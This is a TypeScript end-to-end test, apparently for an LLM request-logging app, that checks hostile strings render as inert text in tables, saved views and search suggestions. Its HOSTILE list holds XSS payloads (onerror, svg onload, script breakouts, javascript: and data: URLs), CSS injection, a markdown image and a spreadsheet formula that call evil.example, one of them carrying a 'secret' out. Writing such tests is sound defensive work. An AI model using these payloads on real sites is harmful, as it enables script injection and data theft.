/** Text that attacks its reader, in every field of the list, in views and in suggestions: it is shown as text, and nothing else happens. */
import { openPage } from './browser.ts';
import { createTenant, logRequests } from './tenant.ts';
import { useProduct } from './useProduct.ts';

jest.setTimeout(120_000);

const e2e = useProduct();

const HOSTILE = [
  '<img src=x onerror="alert(1)">',
  '</script><script>alert(1)</script>',
  'x}*{background:red}/*',
  ']]>',
  '--><svg onload=alert(1)>',
  '[x](javascript:alert(1)) ![](https://evil.example/p.png?d=secret)',
  'data:text/html,<script>alert(1)</script>',
  '\u202Ereversed\u200B',
  `Zalgo${'\u0301\u0316\u0327'.repeat(60)}`,
  '=HYPERLINK("https://evil.example","x")',
];

test('nothing runs, nothing is fetched, and the page keeps its shape', async () => {
  const tenant = await createTenant(e2e.product.url, 'Attacked <b>');
  await logRequests(
    tenant,
    HOSTILE.map((text) => ({
      model: text,
      provider: text,
      messages: [{ role: 'user', content: text }],
      response_content: text,
      environment: text,
      user_id: text,
      session_id: text,
      release: text,
      name: text,
      prompt_slug: text,
      finish_reason: text,
      tags: { [text.slice(0, 40)]: text },
      metadata: { [text.slice(0, 40)]: text },
      error: { type: text, message: text },
    })),
  );
  await logRequests(tenant, [
    {
      model: 'long',
      provider: 'p',
      messages: [{ role: 'user', content: 'x'.repeat(300_000) }],
      response_content: '>'.repeat(200_000),
    },
  ]);
  const saved = await fetch(`${e2e.product.url}/api/v1/views`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${tenant.apiKey}` },
    body: JSON.stringify({
      name: '<img src=x onerror=alert(1)>\u202Eevil',
      search: { q: '"</script><script>alert(1)</script>"' },
    }),
  });
  expect(saved.ok).toBe(true);
  const { page, problems } = await openPage(e2e.browser, e2e.product.url, { width: 1280, height: 800 });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const isOverflowing = () =>
    page.evaluate(() => document.documentElement.scrollWidth > document.documentElement.clientWidth);
  await page.goto(`/#key=${tenant.apiKey}`);
  await page.getByRole('navigation', { name: 'Main' }).waitFor();
  const all =
    'model,provider,prompt,name,user_id,session_id,environment,release,finish_reason,tags,latency,tokens,cost,key';
  for (const cols of [all, 'user_id,tags,key', 'environment,name']) {
    await page.goto(`/requests?cols=${cols}`);
    await page.getByRole('table', { name: 'Requests' }).locator('[data-row]').nth(HOSTILE.length).waitFor();
    expect(await isOverflowing()).toBe(false);
  }
  await page.getByRole('group', { name: 'Saved views' }).getByRole('link').click();
  await page.waitForURL(/v=/);
  expect(await page.title()).toContain('PromptLab');

  const bar = page.getByLabel('Query', { exact: true });
  await page.goto('/requests');
  await page.getByRole('table', { name: 'Requests' }).waitFor();
  for (const field of ['model', 'user', 'env', 'error.type']) {
    await bar.fill(`${field}:`);
    await page.getByRole('listbox', { name: 'Suggestions' }).getByRole('option').first().waitFor();
  }
  await bar.fill('');
  await page.keyboard.press('Escape');

  for (let at = 0; at <= HOSTILE.length; at += 5) {
    await page.getByRole('table', { name: 'Requests' }).locator('[data-row]').nth(at).click();
    await page.getByRole('tab', { name: /^Metadata/ }).click();
    await page.getByText('API key').first().waitFor();
    expect(await isOverflowing()).toBe(false);
  }
  expect(await page.locator('img, svg[onload], script:not([src])').count()).toBe(0);
  expect(dialogs).toEqual([]);
  expect(problems).toEqual([]);
});
